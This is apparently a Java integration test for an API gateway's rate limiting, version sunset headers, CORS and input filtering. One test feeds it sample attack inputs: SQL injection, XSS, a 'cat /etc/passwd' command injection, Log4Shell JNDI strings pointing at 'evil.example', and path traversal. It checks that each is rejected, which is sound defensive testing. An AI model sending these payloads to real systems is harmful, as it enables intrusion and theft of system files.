package io.truststram.gateway;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.micrometer.core.instrument.MeterRegistry;
import io.truststram.TrustStram;
import io.truststram.platform.security.Role;
import io.truststram.platform.testing.HttpTestClient;
import io.truststram.platform.testing.TestBackends;
import io.truststram.platform.testing.TestTokens;
import java.net.URI;
import java.net.http.HttpRequest;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.context.ConfigurableApplicationContext;

/**
 * The gateway's filters in front of the real application: token-bucket limits per client with their
 * headers and 429, limits shared by two instances through Redis, the documented behaviour when
 * Redis is down, version deprecation and sunset, and input inspection.
 */
class GatewayIntegrationTest {

  private static ConfigurableApplicationContext app;
  private static int port;

  @BeforeAll
  static void start() {
    app =
        start(
            "--truststram.gateway.rate-limits[0].name=me",
            "--truststram.gateway.rate-limits[0].path=/api/v1/identity/me",
            "--truststram.gateway.rate-limits[0].key=client",
            "--truststram.gateway.rate-limits[0].replenish-rate=2",
            "--truststram.gateway.rate-limits[0].burst-capacity=3",
            "--truststram.gateway.versions[0].prefix=/api/v1/identity/me",
            "--truststram.gateway.versions[0].deprecated-at=2026-01-01T00:00:00Z",
            "--truststram.gateway.versions[0].sunset-at=2099-01-01T00:00:00Z",
            "--truststram.gateway.versions[0].successor=/api/v2/identity/me",
            "--truststram.gateway.versions[1].prefix=/api/v0",
            "--truststram.gateway.versions[1].sunset-at=2020-01-01T00:00:00Z",
            "--truststram.gateway.versions[1].successor=/api/v1",
            "--truststram.security.cors-allowed-origins=https://console.example.org");
    port = port(app);
  }

  @AfterAll
  static void stop() {
    app.close();
  }

  private static HttpTestClient viewer(ConfigurableApplicationContext context, int port) {
    return HttpTestClient.onPort(port)
        .withToken(
            TestTokens.token(
                port, TestTokens.client(context, TestTokens.systemTenant(context), Role.VIEWER)));
  }

  @Test
  void aClientGetsItsBurstThenA429WithRetryAfterWhileOthersAreUnaffected() {
    HttpTestClient first = viewer(app, port);
    List<Integer> statuses = new ArrayList<>();
    HttpTestClient.Response last = null;
    for (int i = 0; i < 4; i++) {
      last = first.get("/api/v1/identity/me");
      statuses.add(last.status());
    }
    assertThat(statuses).containsExactly(200, 200, 200, 429);
    assertThat(last.header("Retry-After")).hasValue("1");
    assertThat(last.header("RateLimit-Limit")).hasValue("3");
    assertThat(last.header("RateLimit-Remaining")).hasValue("0");
    assertThat(last.contentType()).startsWith("application/problem+json");
    assertThat(last.json().path("type").asString())
        .isEqualTo("https://truststram.io/problems/too-many-requests");

    HttpTestClient second = viewer(app, port);
    var other = second.get("/api/v1/identity/me");
    assertThat(other.status()).isEqualTo(200);
    assertThat(other.header("RateLimit-Remaining")).hasValue("2");
    assertThat(other.header("RateLimit-Policy")).hasValue("me;q=3");

    // Two tokens a second: well under a second later the first client may call again.
    await()
        .atMost(Duration.ofMillis(900))
        .pollInterval(Duration.ofMillis(100))
        .until(() -> first.get("/api/v1/identity/me").status() == 200);
  }

  @Test
  void aDeprecatedVersionSaysSoAndASunsetOneIsGone() {
    var deprecated = viewer(app, port).get("/api/v1/identity/me");
    assertThat(deprecated.header("Deprecation")).hasValue("@1767225600");
    assertThat(deprecated.header("Sunset")).hasValue("Thu, 1 Jan 2099 00:00:00 GMT");
    assertThat(deprecated.header("Link"))
        .hasValue("</api/v2/identity/me>; rel=\"successor-version\"");

    var gone = HttpTestClient.onPort(port).get("/api/v0/tenants");
    assertThat(gone.status()).isEqualTo(410);
    assertThat(gone.json().path("type").asString())
        .isEqualTo("https://truststram.io/problems/api-version-gone");
    assertThat(gone.json().path("detail").asString()).contains("/api/v1/tenants");
  }

  @Test
  void commonInjectionPatternsAreRefusedAndOrdinaryInputIsNot() {
    HttpTestClient http = viewer(app, port);
    for (String attack :
        List.of(
            "/api/v1/tenants?name=%27%20or%201%3D1--",
            "/api/v1/tenants?q=1%20UNION%20SELECT%20password%20FROM%20users",
            "/api/v1/tenants?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "/api/v1/tenants?q=%253Cscript%253E",
            "/api/v1/tenants?file=x%3B%20cat%20%2Fetc%2Fpasswd",
            "/api/v1/tenants?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D")) {
      var response = http.get(attack);
      assertThat(response.status()).as(attack).isEqualTo(400);
      assertThat(response.json().path("type").asString())
          .isEqualTo("https://truststram.io/problems/request-rejected");
    }
    var log4shell =
        http.send(
            HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/api/v1/tenants"))
                .header("User-Agent", "${jndi:ldap://evil.example/a}")
                .GET());
    assertThat(log4shell.status()).isEqualTo(400);
    var traversal = http.get("/api/v1/tenants/..%2F..%2Fetc%2Fpasswd");
    assertThat(traversal.status()).isEqualTo(400);

    for (String ordinary :
        List.of(
            "/api/v1/tenants?limit=5",
            "/api/v1/tenants?name=O%27Brien%20and%20Sons",
            "/api/v1/tenants?q=select%20the%20best%20model",
            "/api/v1/tenants?id=7&ls=1&sh=2")) {
      assertThat(http.get(ordinary).status()).as(ordinary).isLessThan(400);
    }
  }

  @Test
  void browsersFromTheConfiguredOriginMayCallTheApiAndOthersMayNot() {
    var allowed = preflight("https://console.example.org", "/api/v1/tenants");
    assertThat(allowed.status()).isEqualTo(200);
    assertThat(allowed.header("Access-Control-Allow-Origin"))
        .hasValue("https://console.example.org");
    assertThat(allowed.header("Access-Control-Allow-Headers").orElse(""))
        .containsIgnoringCase("authorization");
    assertThat(preflight("https://console.example.org", "/oauth2/token").status()).isEqualTo(200);
    var refused = preflight("https://evil.example", "/api/v1/tenants");
    assertThat(refused.status()).isEqualTo(403);
    assertThat(refused.header("Access-Control-Allow-Origin")).isEmpty();
  }

  private static HttpTestClient.Response preflight(String origin, String path) {
    return HttpTestClient.onPort(port)
        .send(
            HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
                .method("OPTIONS", HttpRequest.BodyPublishers.noBody())
                .header("Origin", origin)
                .header("Access-Control-Request-Method", "POST")
                .header("Access-Control-Request-Headers", "authorization,content-type"));
  }

  @Test
  void twoInstancesSharingRedisEnforceOneLimit() {
    String prefix = "truststram-test:" + UUID.randomUUID();
    String[] shared = {
      "--truststram.redis.url=" + TestBackends.redisUrl().toString(),
      "--truststram.redis.key-prefix=" + prefix,
      "--truststram.gateway.rate-limits[0].name=info",
      "--truststram.gateway.rate-limits[0].path=/actuator/info",
      "--truststram.gateway.rate-limits[0].key=address",
      "--truststram.gateway.rate-limits[0].replenish-rate=0.01",
      "--truststram.gateway.rate-limits[0].burst-capacity=4"
    };
    try (var one = start(shared);
        var two = start(shared)) {
      HttpTestClient a = HttpTestClient.onPort(port(one));
      HttpTestClient b = HttpTestClient.onPort(port(two));
      List<Integer> statuses = new ArrayList<>();
      for (int i = 0; i < 3; i++) {
        statuses.add(a.get("/actuator/info").status());
        statuses.add(b.get("/actuator/info").status());
      }
      assertThat(statuses).containsExactly(200, 200, 200, 200, 429, 429);
    }
  }

  @Test
  void whenRedisIsDownLimitsFailOpenByDefaultAndClosedWhenConfigured() {
    String[] downRedis = {
      "--truststram.redis.url=redis://127.0.0.1:1",
      "--truststram.redis.timeout=300ms",
      "--truststram.gateway.rate-limits[0].name=info",
      "--truststram.gateway.rate-limits[0].path=/actuator/info",
      "--truststram.gateway.rate-limits[0].key=address",
      "--truststram.gateway.rate-limits[0].replenish-rate=1",
      "--truststram.gateway.rate-limits[0].burst-capacity=1"
    };
    try (var open = start(downRedis)) {
      HttpTestClient http = HttpTestClient.onPort(port(open));
      assertThat(http.get("/actuator/info").status()).isEqualTo(200);
      assertThat(http.get("/actuator/info").status()).isEqualTo(200);
      assertThat(
              open.getBean(MeterRegistry.class)
                  .counter(
                      "truststram.gateway.ratelimit",
                      "policy",
                      "info",
                      "outcome",
                      "store_failure_open")
                  .count())
          .isEqualTo(2);
    }
    String[] closed = new String[downRedis.length + 1];
    System.arraycopy(downRedis, 0, closed, 0, downRedis.length);
    closed[downRedis.length] = "--truststram.gateway.on-store-failure=closed";
    try (var failClosed = start(closed)) {
      var response = HttpTestClient.onPort(port(failClosed)).get("/actuator/info");
      assertThat(response.status()).isEqualTo(503);
      assertThat(response.header("Retry-After")).hasValue("5");
    }
  }

  private static ConfigurableApplicationContext start(String... args) {
    String[] all = new String[args.length + 1];
    all[0] = "--server.port=0";
    System.arraycopy(args, 0, all, 1, args.length);
    return new SpringApplicationBuilder(TrustStram.class).profiles("test").run(all);
  }

  private static int port(ConfigurableApplicationContext context) {
    return Integer.parseInt(context.getEnvironment().getRequiredProperty("local.server.port"));
  }
}
